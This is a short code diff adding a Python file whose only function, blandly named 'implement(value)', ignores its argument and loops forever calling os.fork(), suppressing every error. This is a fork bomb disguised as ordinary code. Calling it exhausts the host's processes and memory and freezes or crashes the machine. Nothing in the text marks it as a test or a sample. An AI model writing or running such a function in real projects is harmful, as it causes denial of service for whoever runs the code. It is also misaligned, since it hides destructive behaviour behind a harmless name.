@@ -1,0 +1,9 @@
+import os
+
+
+def implement(value):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
